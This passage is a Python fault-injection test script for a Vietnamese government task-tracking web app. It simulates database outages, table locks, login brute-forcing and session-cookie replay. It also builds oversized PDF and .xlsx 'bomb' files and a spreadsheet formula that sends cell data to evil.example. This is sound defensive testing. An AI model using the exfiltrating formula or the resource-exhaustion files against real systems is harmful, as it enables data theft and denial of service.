"""`make faults`: issue 15's experiments against gunicorn + a PostgreSQL cluster of our own.

A throwaway PostgreSQL cluster (initdb in a temporary folder, port FAULTS_PG_PORT, 54339) gets
the migrations and the demo data; gunicorn serves it with the project's gunicorn.conf.py in the
production configuration (TRUSTED_PROXIES=1, so the clients here can speak from several
addresses through X-Forwarded-For; rate limits in the Redis on 127.0.0.1:6379 when it answers,
under a key prefix of their own). Then, one after the other:

1. outage: 12 signed-in users browse and save task updates (plain form posts); the cluster is
   stopped for 15 s and started again. Every answer is recorded: no English, every 503 with
   Retry-After and the typed text shown back, recovery within seconds, and every save that was
   confirmed (303) is in the database afterwards;
2. lock: a transaction holds ACCESS EXCLUSIVE on task_updates for 40 s while users read pages
   and save updates: pages that do not need the table keep answering, saves fail with
   "hệ thống đang bận" after the lock timeout, no worker is killed;
3. /verify: the 400,000-field PDF (and the same in a compressed object stream, which passes
   the structure scan and meets the time limit) while a bystander reads pages; 60 anonymous
   posts in a row (the rate limit);
4. the .xlsx bombs posted to the plan import: time and the workers' memory;
5. sign-in: 30 parallel wrong guesses for chutich from one address, then chutich from his own;
   a session cookie copied before sign-out, used after it;
6. a formula typed in a task note, then the monthly report exported to .xlsx.

Only the cluster started here is stopped. Writes bench/faults.json; exits 1 when a target is
missed. Environment: FAULTS_PG_PORT, FAULTS_PORT.
"""

from __future__ import annotations

import contextlib
import http.cookiejar
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import zipfile
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

from bench.soak import _NoRedirect, fill, form_with, free_port, process_tree, rss_kb

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "bench" / "faults.json"
DEMO_PASSWORD = "Demo@2025"  # noqa: S105 - published in the README for the demo accounts
ENGLISH = ("Internal Server Error", "Traceback", "Service Unavailable", "Bad Gateway")
CONFLICT = "đã cập nhật nhiệm vụ này trong lúc bạn đang soạn"
EVIL = '=HYPERLINK("http://evil.example/?d="&C5,"Xem")'


# -- the PostgreSQL cluster and gunicorn ------------------------------------------------------
class Cluster:
    """A PostgreSQL cluster in a temporary folder, owned by the postgres account."""

    def __init__(self, port: int) -> None:
        bins = sorted(Path("/usr/lib/postgresql").glob("*/bin/initdb"))
        if not bins:
            raise SystemExit("PostgreSQL is not installed (apt-get install postgresql)")
        self.bin = bins[-1].parent
        self.port = port
        self.dir = Path(tempfile.mkdtemp(prefix="cchc-faults-pg-"))
        shutil.chown(self.dir, "postgres", "postgres")
        self.data = self.dir / "data"
        self._as_postgres(
            f"{self.bin}/initdb -D {self.data} -U postgres -A trust -E UTF8 --locale=C.UTF-8"
        )

    def _as_postgres(self, command: str) -> None:
        prefix = [] if os.geteuid() != 0 else ["su", "postgres", "-c"]
        args = [*prefix, command] if prefix else ["sh", "-c", command]
        subprocess.run(args, check=True, capture_output=True)

    def start(self) -> None:
        options = f"-c listen_addresses=127.0.0.1 -p {self.port} -k {self.dir} -c fsync=off"
        self._as_postgres(
            f"{self.bin}/pg_ctl -D {self.data} -l {self.dir}/log -o '{options}' -w start"
        )

    def stop(self) -> None:
        self._as_postgres(f"{self.bin}/pg_ctl -D {self.data} -m fast -w stop")

    def remove(self) -> None:
        with contextlib.suppress(subprocess.CalledProcessError):
            self.stop()
        shutil.rmtree(self.dir, ignore_errors=True)

    @property
    def url(self) -> str:
        return f"postgresql+psycopg://postgres@127.0.0.1:{self.port}/cchc_faults"

    def connect(self):
        import psycopg

        return psycopg.connect(
            f"postgresql://postgres@127.0.0.1:{self.port}/cchc_faults", autocommit=True
        )


def server_env(cluster: Cluster, work: Path) -> dict[str, str]:
    env = {
        **os.environ,
        "CCHC_CONFIG": "production",
        "SECRET_KEY": "faults-secret-key-faults-secret-key",
        "SESSION_COOKIE_SECURE": "0",
        "DATABASE_URL": cluster.url,
        "UPLOAD_DIR": str(work / "uploads"),
        "CCHC_INSTANCE_DIR": str(work / "instance"),
        "REQUIRE_SIGNING_CERTIFICATE": "0",  # the demo certificate, explicitly
        "CCHC_PUBLIC_URL": "http://127.0.0.1",  # required in production (issue 13)
        "TRUSTED_PROXIES": "1",
        "RATELIMIT_KEY_PREFIX": f"cchc-faults-{os.getpid()}",
    }
    if redis_answers():
        env["RATELIMIT_STORAGE_URI"] = "redis://127.0.0.1:6379"
    return env


def redis_answers() -> bool:
    import socket

    try:
        with socket.create_connection(("127.0.0.1", 6379), timeout=1) as sock:
            sock.sendall(b"PING\r\n")
            return sock.recv(16).startswith(b"+PONG")
    except OSError:
        return False


@contextlib.contextmanager
def gunicorn(env: dict[str, str], port: int, work: Path):
    log = work / "gunicorn.log"
    with log.open("wb") as out:
        server = subprocess.Popen(
            [
                sys.executable, "-m", "gunicorn", "-c", str(ROOT / "gunicorn.conf.py"),
                "--bind", f"127.0.0.1:{port}", "--access-logfile", str(work / "access.log"),
                "--log-level", "warning", "wsgi:app",
            ],
            cwd=ROOT, env=env, stdout=out, stderr=subprocess.STDOUT,
        )  # fmt: skip
        try:
            for _ in range(300):
                try:
                    urllib.request.urlopen(f"http://127.0.0.1:{port}/login", timeout=1).read()
                    break
                except OSError:
                    if server.poll() is not None:
                        raise RuntimeError(f"gunicorn exited: {log.read_text()}") from None
                    time.sleep(0.1)
            yield server.pid, log
        finally:
            server.terminate()
            server.wait(timeout=60)


# -- a browser ----------------------------------------------------------------------------------
@dataclass
class Answer:
    status: int
    body: str
    headers: dict
    seconds: float
    started: float

    @property
    def location(self) -> str:
        return urllib.parse.urlsplit(self.headers.get("Location", "")).path

    @property
    def english(self) -> bool:
        return any(word in self.body for word in ENGLISH) or (
            self.status >= 500 and 'lang="vi"' not in self.body
        )


class Browser:
    def __init__(self, base: str, address: str = "10.0.0.1") -> None:
        self.base, self.address = base, address
        self.jar = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(self.jar), _NoRedirect
        )

    def request(self, path: str, data=None, *, files=None, timeout: float = 90) -> Answer:
        headers = {"X-Forwarded-For": self.address}
        body = None
        if files is not None:
            body, content_type = multipart(data or [], files)
            headers["Content-Type"] = content_type
        elif data is not None:
            body = urllib.parse.urlencode(data).encode()
        request = urllib.request.Request(self.base + path, body, headers)
        started = time.monotonic()
        try:
            with self.opener.open(request, timeout=timeout) as response:
                status, raw, head = response.status, response.read(), dict(response.headers)
        except urllib.error.HTTPError as err:
            status, raw, head = err.code, err.read(), dict(err.headers)
        except OSError as err:
            return Answer(0, f"connection: {err!r}", {}, time.monotonic() - started, started)
        text = raw.decode(errors="replace") if b"\0" not in raw[:2000] else ""
        answer = Answer(status, text, head, time.monotonic() - started, started)
        answer.raw = raw  # type: ignore[attr-defined]
        return answer

    def post_form(self, path: str, field_name: str, files=None, **values) -> Answer:
        page = self.request(path)
        form = form_with(page.body, field_name)
        if form is None:
            return page
        action = form["attrs"].get("action") or path
        return self.request(action, fill(form, **values), files=files)

    def login(self, username: str, password: str = DEMO_PASSWORD) -> Answer:
        return self.post_form("/login", "username", username=username, password=password)


def multipart(fields: list[tuple[str, str]], files: dict[str, tuple[str, bytes]]):
    boundary = "----cchc-faults-boundary"
    out = io.BytesIO()
    for name, value in fields:
        out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode())
        out.write(str(value).encode() + b"\r\n")
    for name, (filename, data) in files.items():
        out.write(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '
            f'filename="{filename}"\r\nContent-Type: application/octet-stream\r\n\r\n'.encode()
        )
        out.write(data + b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return out.getvalue(), f"multipart/form-data; boundary={boundary}"


def pct(values: list[float], p: float) -> float:
    ordered = sorted(values)
    return round(ordered[min(len(ordered) - 1, int(len(ordered) * p))] * 1000, 1) if ordered else 0


# -- 1. outage ------------------------------------------------------------------------------
WORKERS = ("vp.canbo", "kt.canbo", "vhxh.canbo", "hcc.canbo", "vp.lanhdao", "kt.lanhdao")


@dataclass
class Load:
    base: str
    stop: threading.Event = field(default_factory=threading.Event)
    answers: list[tuple[str, str, Answer]] = field(default_factory=list)
    confirmed: list[str] = field(default_factory=list)
    kept_on_503: list[bool] = field(default_factory=list)
    forms: dict = field(default_factory=dict)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def user(self, n: int, pages: list[str], saves: bool = True) -> None:
        username = WORKERS[n % len(WORKERS)]
        office = username.split(".")[0]
        browser = Browser(self.base, f"10.0.1.{n + 1}")
        signed_in = False
        i = 0
        while not self.stop.is_set():
            i += 1
            if not signed_in:
                answer = browser.login(username)
                self.note(username, "login", answer)
                signed_in = answer.status == 302
                if not signed_in:
                    time.sleep(0.5)
                    continue
            if saves and i % 3 == 0:
                self.save(browser, username, office, i)
            else:
                path = pages[i % len(pages)].format(office=office)
                answer = browser.request(path)
                self.note(username, "GET " + path, answer)
                if answer.status == 302 and answer.location == "/login":
                    signed_in = False
            time.sleep(0.2)

    def save(self, browser: Browser, username: str, office: str, i: int) -> None:
        """Open a task's update form and post it, as a person does. When the form cannot be
        opened (the database is down or the table locked), the one opened earlier is posted:
        that is the plain form POST that must fail cleanly and keep its text."""
        listing = browser.request(f"/offices/{office}/")
        self.note(username, f"GET /offices/{office}/", listing)
        tasks = sorted(set(re.findall(rf'href="(/offices/{office}/tasks/\d+)"', listing.body)))
        if tasks:
            path = f"{tasks[i % len(tasks)]}/update"
            page = browser.request(path)
            self.note(username, f"GET /offices/{office}/tasks/…/update", page)
            form = form_with(page.body, "based_on")
            if form is not None:  # per browser: its CSRF token belongs to its session
                self.forms[id(browser)] = (form["attrs"].get("action") or path, form)
        if id(browser) not in self.forms:
            return
        action, form = self.forms[id(browser)]
        text = f"faults {username} lần {i} {time.monotonic():.3f}"
        answer = browser.request(
            action,
            fill(
                form,
                status="in_progress",
                progress=str(i % 99 + 1),
                result=text,
                cause_type="",
                cause="",
                catchup_action="",
                catchup_deadline="",
                catchup_responsible="",
            ),  # fmt: skip
        )
        self.note(username, "POST update", answer)
        with self.lock:
            if answer.status == 303:
                self.confirmed.append(text)
            elif answer.status == 503:
                self.kept_on_503.append(text in answer.body)

    def note(self, username: str, what: str, answer: Answer) -> None:
        with self.lock:
            self.answers.append((username, what, answer))


def summarise(answers: list[tuple[str, str, Answer]], start: float, end: float) -> dict:
    window = [a for _u, _w, a in answers if start <= a.started < end]
    failed = Counter(
        f"{w} ({a.headers.get('X-CCHC-Error', '?')})"
        for _u, w, a in answers
        if start <= a.started < end and a.status >= 500
    )
    refused = Counter(
        f"{w} {a.status}: "
        + " ".join(re.findall(r"<h1>([^<]+)</h1>", a.body)[:1])
        + " ".join(
            re.findall(
                r'class="error-page">\s*<p[^>]*>[^<]*</p>\s*<h1>[^<]*</h1>\s*<p>([^<]+)', a.body
            )[:1]
        )
        for _u, w, a in answers
        if start <= a.started < end and 400 <= a.status < 500 and a.status != 429
    )
    return {
        "5xx_by_request": dict(failed),
        "4xx_by_request": dict(refused),
        "answers": len(window),
        "statuses": dict(Counter(a.status for a in window)),
        "english": sum(a.english for a in window),
        "503_without_retry_after": sum(
            1 for a in window if a.status == 503 and "Retry-After" not in a.headers
        ),
        "503_not_vietnamese": sum(
            1 for a in window if a.status == 503 and "chưa được lưu" not in a.body
        ),
        "latency_p50_ms": pct([a.seconds for a in window], 0.5),
        "latency_p95_ms": pct([a.seconds for a in window], 0.95),
        "latency_max_ms": pct([a.seconds for a in window], 1.0),
    }


def outage(base: str, cluster: Cluster, seconds_down: int = 15) -> dict:
    load = Load(base)
    pages = ["/", "/plans/", "/offices/{office}/", "/initiatives/", "/reports/"]
    threads = [threading.Thread(target=load.user, args=(n, pages), daemon=True) for n in range(12)]
    for t in threads:
        t.start()
    time.sleep(6)
    stopped = time.monotonic()
    cluster.stop()
    time.sleep(seconds_down)
    cluster.start()
    restarted = time.monotonic()
    time.sleep(12)
    load.stop.set()
    for t in threads:
        t.join(timeout=120)
    after = [a for _u, _w, a in load.answers if a.started >= restarted and a.status in (200, 303)]
    first_ok = min((a.started + a.seconds for a in after), default=None)
    with cluster.connect() as conn:
        stored = {row[0] for row in conn.execute("SELECT result FROM task_updates")}
    lost = [text for text in load.confirmed if text not in stored]
    return {
        "down_s": seconds_down,
        "before": summarise(load.answers, 0, stopped),
        "during": summarise(load.answers, stopped + 0.5, restarted),
        "after": summarise(load.answers, restarted, float("inf")),
        "recovery_s": round(first_ok - restarted, 2) if first_ok else None,
        "saves_confirmed": len(load.confirmed),
        "saves_lost": len(lost),
        "posts_503": len(load.kept_on_503),
        "posts_503_text_shown_back": sum(load.kept_on_503),
    }


# -- 2. table lock ------------------------------------------------------------------------------
def table_lock(base: str, cluster: Cluster, seconds: int = 40) -> dict:
    load = Load(base)
    free_pages = ["/initiatives/", "/decisions/", "/par-index/", "/plans/", "/verify"]
    threads = [
        threading.Thread(target=load.user, args=(n, free_pages, n % 2 == 0), daemon=True)
        for n in range(10)
    ]
    for t in threads:
        t.start()
    time.sleep(4)
    holder = cluster.connect()
    holder.execute("BEGIN")
    holder.execute("LOCK TABLE task_updates IN ACCESS EXCLUSIVE MODE")
    locked_at = time.monotonic()
    time.sleep(seconds)
    holder.execute("ROLLBACK")
    holder.close()
    released = time.monotonic()
    time.sleep(4)
    load.stop.set()
    for t in threads:
        t.join(timeout=120)
    during = [(w, a) for _u, w, a in load.answers if locked_at <= a.started < released]
    reads = [a for w, a in during if w.startswith("GET /") and "/offices/" not in w]
    saves = [a for w, a in during if w == "POST update"]
    return {
        "lock_s": seconds,
        "pages_not_needing_the_table": {
            "answers": len(reads),
            "statuses": dict(Counter(a.status for a in reads)),
            "p95_ms": pct([a.seconds for a in reads], 0.95),
        },
        "saves_needing_the_table": {
            "answers": len(saves),
            "statuses": dict(Counter(a.status for a in saves)),
            "busy_pages": sum("Hệ thống đang bận" in a.body for a in saves),
            "conflicts_told": sum(CONFLICT in a.body for a in saves if a.status == 200),
            "p50_ms": pct([a.seconds for a in saves], 0.5),
            "max_ms": pct([a.seconds for a in saves], 1.0),
        },
        "all": summarise(load.answers, locked_at, released),
    }


# -- 3. /verify ----------------------------------------------------------------------------------
def fields_bomb(count: int = 400_000) -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm 3 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Fields [" + b"5 0 R " * count + b"] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /FT /Sig /T (Chu ky) /V 6 0 R >>",
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached "
        b"/ByteRange [0 0 0 0] /Contents <00> >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


def compressed_fields_bomb(count: int = 400_000) -> bytes | None:
    """The same /Fields array inside a compressed object stream: no reference is visible to
    a scan of the raw bytes, so only the time and memory limits stop it."""
    try:
        from pyhanko.pdf_utils import generic
        from pyhanko.pdf_utils.writer import PdfFileWriter
    except ImportError:
        return None
    writer = PdfFileWriter(stream_xrefs=True)
    stream = writer.prepare_object_stream()
    sig = writer.add_object(
        generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Sig"),
                generic.NameObject("/Filter"): generic.NameObject("/Adobe.PPKLite"),
                generic.NameObject("/SubFilter"): generic.NameObject("/adbe.pkcs7.detached"),
                generic.NameObject("/ByteRange"): generic.ArrayObject(
                    [generic.NumberObject(0)] * 4
                ),
                generic.NameObject("/Contents"): generic.ByteStringObject(b"\0"),
            }
        ),
        obj_stream=stream,
    )
    field_ref = writer.add_object(
        generic.DictionaryObject(
            {
                generic.NameObject("/FT"): generic.NameObject("/Sig"),
                generic.NameObject("/T"): generic.TextStringObject("Chu ky"),
                generic.NameObject("/V"): sig,
            }
        ),
        obj_stream=stream,
    )
    form = writer.add_object(
        generic.DictionaryObject(
            {generic.NameObject("/Fields"): generic.ArrayObject([field_ref] * count)}
        ),
        obj_stream=stream,
    )
    writer.root[generic.NameObject("/AcroForm")] = form
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def verify_abuse(base: str) -> dict:
    results: dict = {}
    bystander_times: list[float] = []
    stop = threading.Event()

    def bystander() -> None:
        browser = Browser(base, "10.0.3.1")
        while not stop.is_set():
            answer = browser.request("/login")
            bystander_times.append(answer.seconds)
            time.sleep(0.1)

    baseline = [Browser(base, "10.0.3.2").request("/login").seconds for _ in range(20)]
    watcher = threading.Thread(target=bystander, daemon=True)
    watcher.start()
    for name, pdf in (("fields_400000", fields_bomb()), ("compressed", compressed_fields_bomb())):
        if pdf is None:
            continue
        timings = []
        outcomes = []

        def post(pdf: bytes = pdf, n: int = 0, timings=timings, outcomes=outcomes) -> None:
            browser = Browser(base, f"10.0.4.{n}")
            page = browser.request("/verify")
            form = form_with(page.body, "csrf_token")
            answer = browser.request(
                "/verify", fill(form), files={"file": ("qd.pdf", pdf)}, timeout=120
            )
            timings.append(answer.seconds)
            found = re.findall(r'class="error"[^>]*>([^<]+)', answer.body)
            outcomes.append(f"{answer.status} {found[0][:70] if found else ''}")

        posts = [threading.Thread(target=post, kwargs={"n": n}) for n in range(3)]
        for t in posts:
            t.start()
        for t in posts:
            t.join()
        results[name] = {
            "size_bytes": len(pdf),
            "parallel_posts": 3,
            "seconds_max": round(max(timings), 3),
            "outcomes": outcomes,
        }
    stop.set()
    watcher.join()
    results["bystander_login_page"] = {
        "baseline_p95_ms": pct(baseline, 0.95),
        "during_p95_ms": pct(bystander_times, 0.95),
        "during_max_ms": pct(bystander_times, 1.0),
    }
    browser = Browser(base, "10.0.5.5")
    statuses = []
    small = b"%PDF-1.7\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"
    page = browser.request("/verify")
    form = form_with(page.body, "csrf_token")
    started = time.monotonic()
    for _ in range(60):
        statuses.append(
            browser.request("/verify", fill(form), files={"file": ("a.pdf", small)}).status
        )
    results["rate_limit"] = {
        "posts": 60,
        "seconds": round(time.monotonic() - started, 2),
        "statuses": dict(Counter(statuses)),
    }
    return results


# -- 4. xlsx bombs ---------------------------------------------------------------------------
def _xlsx(sheet: str, strings: str = "") -> bytes:
    sml = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    pkg = "http://schemas.openxmlformats.org/package/2006/"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    strings = strings or f'<sst xmlns="{main}"/>'
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{pkg}content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{sml}sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{sml}worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{sml}sharedStrings+xml"/>'
        "</Types>",
        "_rels/.rels": f'<Relationships xmlns="{pkg}relationships"><Relationship Id="rId1" '
        f'Type="{rel}officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{rel[:-1]}"><sheets>'
        '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{pkg}relationships">'
        f'<Relationship Id="rId1" Type="{rel}worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{rel}sharedStrings" Target="sharedStrings.xml"/>'
        "</Relationships>",
        "xl/worksheets/sheet1.xml": sheet,
        "xl/sharedStrings.xml": strings,
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, text in parts.items():
            z.writestr(name, text)
    return buf.getvalue()


def _sheet(rows: str, dimension: str) -> str:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<worksheet xmlns="{main}"><dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'


HEADER = (
    '<row r="1">'
    + "".join(
        f'<c r="{c}1" t="inlineStr"><is><t>{n}</t></is></c>'
        for c, n in zip(
            "ABCDEF",
            ("ma", "linh_vuc", "noi_dung", "chu_tri", "phoi_hop", "thoi_gian"),
            strict=True,
        )  # fmt: skip
    )
    + "</row>"
)


def xlsx_bombs() -> dict[str, bytes]:
    dense = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(2, 1_048_577))
    empty = "".join(f'<row r="{n}"/>' for n in range(2, 600_002))
    far = '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    strings = (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + "<si><t>bomb</t></si>" * 4_000_000
        + "</sst>"
    )
    return {
        "dimension_A1_XFD10000": _xlsx(_sheet(HEADER, "A1:XFD10000")),
        "row_1048576_sparse": _xlsx(_sheet(HEADER + far, "A1:XFD1048576")),
        "rows_1048576_dense": _xlsx(_sheet(HEADER + dense, "A1:A1048576")),
        "empty_rows_600000": _xlsx(_sheet(HEADER + empty, "A1:A600001")),
        "shared_strings": _xlsx(_sheet(HEADER, "A1:F1"), strings),
    }


def worker_rss_mb(master: int) -> float:
    sizes = rss_kb([p for p in process_tree(master) if p != master])
    return round(max(sizes.values(), default=0) / 1024, 1)


def import_bombs(base: str, master: int) -> dict:
    browser = Browser(base, "10.0.6.1")
    browser.login("vhxh.canbo")
    results = {}
    for name, data in xlsx_bombs().items():
        before = worker_rss_mb(master)
        peak = [before]
        done = threading.Event()

        def sample(peak=peak, done=done) -> None:
            while not done.is_set():
                peak.append(worker_rss_mb(master))
                time.sleep(0.02)

        sampler = threading.Thread(target=sample, daemon=True)
        sampler.start()
        page = browser.request("/plans/import")
        form = form_with(page.body, "title")
        answer = browser.request(
            "/plans/import",
            fill(form, title="Kế hoạch thử", period_start="2026-01-01", period_end="2026-12-31"),
            files={"tasks_file": ("bom.xlsx", data)},
        )
        done.set()
        sampler.join()
        errors = re.findall(
            r'class="(?:error|flash flash-error)"[^>]*>([^<]+)|<td>Tệp</td><td>[^<]*</td><td>([^<]+)',
            answer.body,
        )
        errors = ["".join(found) for found in errors]
        results[name] = {
            "size_bytes": len(data),
            "status": answer.status,
            "seconds": round(answer.seconds, 3),
            "worker_rss_before_mb": before,
            "worker_rss_peak_mb": max(peak),
            "message": (errors[0].strip()[:120] if errors else ""),
        }
    return results


# -- 5. sign-in and sessions ----------------------------------------------------------------------
def sign_in_abuse(base: str) -> dict:
    desk = Browser(base, "10.1.1.10")
    first = desk.login("chutich").status
    desk.request("/logout", fill(form_with(desk.request("/").body, "csrf_token")))
    barrier = threading.Barrier(30)
    outcomes: list[str] = []

    def guess(n: int) -> None:
        browser = Browser(base, "10.9.9.9")
        page = browser.request("/login")
        form = form_with(page.body, "username")
        barrier.wait()
        answer = browser.request("/login", fill(form, username="chutich", password=f"sai-{n}"))
        outcomes.append(
            "checked" if "không đúng" in answer.body else ("waiting" if answer.status == 429 else
                                                           str(answer.status))
        )  # fmt: skip

    threads = [threading.Thread(target=guess, args=(n,)) for n in range(30)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    own = Browser(base, "10.1.1.10").login("chutich").status
    victim = Browser(base, "10.2.2.2")
    victim.login("kt.canbo")
    copied = [c for c in victim.jar]
    victim.request("/logout", fill(form_with(victim.request("/").body, "csrf_token")))
    thief = Browser(base, "10.3.3.3")
    for cookie in copied:
        thief.jar.set_cookie(cookie)
    after = thief.request("/")
    return {
        "chutich_first_sign_in": first,
        "parallel_guesses": dict(Counter(outcomes)),
        "chutich_from_his_own_address_after": own,
        "copied_cookie_after_sign_out": f"{after.status} → {after.location}",
    }


# -- 6. formula in a note ------------------------------------------------------------------------
def formula_export(base: str) -> dict:
    staff = Browser(base, "10.4.4.4")
    staff.login("vp.canbo")
    listing = staff.request("/offices/vp/")
    task = sorted(set(re.findall(r'href="(/offices/vp/tasks/\d+)"', listing.body)))[0]
    saved = staff.post_form(
        f"{task}/update", "based_on", status="in_progress", progress="50", result=EVIL,
        cause_type="", cause="", catchup_action="", catchup_deadline="", catchup_responsible="",
    )  # fmt: skip
    head = Browser(base, "10.4.4.5")
    head.login("vp.lanhdao")
    page = head.request("/reports/office/vp/")
    form = form_with(page.body, "period")
    cells, report, export = [], "", None
    for period in (form or {"options": {}})["options"].get("period", []):
        created = head.request(form["attrs"]["action"], fill(form, period=period))
        report = created.location
        if not re.fullmatch(r"/reports/\d+", report):
            continue
        export = head.request(f"{report}.xlsx")
        if export.status != 200:
            continue
        from openpyxl import load_workbook

        workbook = load_workbook(io.BytesIO(export.raw))  # type: ignore[attr-defined]
        cells = [
            c.data_type for ws in workbook for row in ws.iter_rows() for c in row if c.value == EVIL
        ]
        if cells:
            break
    return {
        "note_saved": saved.status,
        "report": report,
        "export_status": export.status if export else None,
        "cache_control": export.headers.get("Cache-Control") if export else None,
        "formula_cells_types": cells,
    }


# -- the run ----------------------------------------------------------------------------------
def in_process_bombs() -> dict:
    """The same bombs read by the importer in this process: time and Python's peak memory."""
    import tracemalloc

    from cchc_web.plans import importer

    results = {}
    for name, data in xlsx_bombs().items():
        tracemalloc.start()
        started = time.perf_counter()
        try:
            importer.read_table("bom.xlsx", data)
            outcome = "read"
        except importer.ImportFileError as err:
            outcome = str(err)[:80]
        seconds = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1] / 1024 / 1024
        tracemalloc.stop()
        results[name] = {
            "seconds": round(seconds, 3),
            "peak_mb": round(peak, 1),
            "outcome": outcome,
        }
    return results


def server_errors(text: str) -> list[str]:
    """Each distinct traceback of the server log (its last lines), and gunicorn's own errors."""
    found: Counter = Counter()
    lines = text.splitlines()
    for n, line in enumerate(lines):
        if line.startswith("Traceback"):
            block = []
            for follow in lines[n + 1 : n + 200]:
                if follow and not follow.startswith((" ", "Traceback", "[SQL", "[param", "(Back")):
                    block.append(follow.strip()[:200])
                    break
                block.append(follow.strip()[:200])
            found[" | ".join(block[-4:])] += 1
        elif "[ERROR]" in line or "WORKER TIMEOUT" in line:
            found[line.strip()[:200]] += 1
    return [f"{count} × {text}" for text, count in found.most_common(10)]


def check(results: dict) -> list[str]:
    missed = []
    o = results["outage"]
    if o["during"]["english"] or o["before"]["english"] or o["after"]["english"]:
        missed.append("outage: English answers")
    if o["during"]["503_without_retry_after"] or o["during"]["503_not_vietnamese"]:
        missed.append("outage: a 503 without Retry-After or without the Vietnamese text")
    if o["saves_lost"]:
        missed.append(f"outage: {o['saves_lost']} confirmed saves lost")
    if o["recovery_s"] is None or o["recovery_s"] > 10:
        missed.append(f"outage: recovery {o['recovery_s']} s")
    if o["posts_503"] != o["posts_503_text_shown_back"]:
        missed.append("outage: a failed post did not show the text back")
    lock = results["lock"]
    reads = lock["pages_not_needing_the_table"]["statuses"]
    if set(reads) - {200}:
        missed.append(f"lock: other pages did not keep answering {reads}")
    if lock["all"]["english"] or results["worker_timeouts"]:
        missed.append("lock: English answers or killed workers")
    saves = lock["saves_needing_the_table"]
    if saves["answers"] and saves["busy_pages"] + saves["conflicts_told"] != saves["answers"]:
        missed.append(f"lock: saves did not fail cleanly {saves['statuses']}")
    verify = results["verify"]
    if verify["fields_400000"]["seconds_max"] > 1:
        missed.append("verify: the 400,000-field PDF took over a second")
    for name, bomb in results["xlsx_bombs_http"].items():
        if bomb["seconds"] > 1 or bomb["worker_rss_peak_mb"] - bomb["worker_rss_before_mb"] > 200:
            missed.append(f"xlsx {name}: {bomb['seconds']} s, peak {bomb['worker_rss_peak_mb']}")
    guesses = results["sign_in"]["parallel_guesses"].get("checked", 0)
    if guesses > 5 or results["sign_in"]["chutich_from_his_own_address_after"] != 302:
        missed.append(f"sign-in: {guesses} guesses checked, or the Chairman was stopped")
    if not results["sign_in"]["copied_cookie_after_sign_out"].endswith("/login"):
        missed.append("sessions: a copied cookie still works after sign-out")
    if not results["formula"]["formula_cells_types"] or set(
        results["formula"]["formula_cells_types"]
    ) != {"s"}:
        missed.append("export: the formula note is not text")
    return missed


def main() -> int:
    port = int(os.environ.get("FAULTS_PORT") or free_port())
    cluster = Cluster(int(os.environ.get("FAULTS_PG_PORT", 54339)))
    work = Path(tempfile.mkdtemp(prefix="cchc-faults-"))
    results: dict = {"date": time.strftime("%Y-%m-%d %H:%M")}
    try:
        cluster.start()
        import psycopg

        with psycopg.connect(
            f"postgresql://postgres@127.0.0.1:{cluster.port}/postgres", autocommit=True
        ) as conn:
            conn.execute("CREATE DATABASE cchc_faults")
        env = server_env(cluster, work)
        flask = [sys.executable, "-m", "flask", "--app", "wsgi"]
        for command in (["db", "upgrade"], ["seed-demo"]):
            done = subprocess.run(flask + command, cwd=ROOT, env=env, capture_output=True)
            if done.returncode:
                raise SystemExit(f"{command}: {done.stderr.decode(errors='replace')[-3000:]}")
        results["rate_limit_storage"] = env.get("RATELIMIT_STORAGE_URI", "memory://")
        with gunicorn(env, port, work) as (master, log):
            base = f"http://127.0.0.1:{port}"
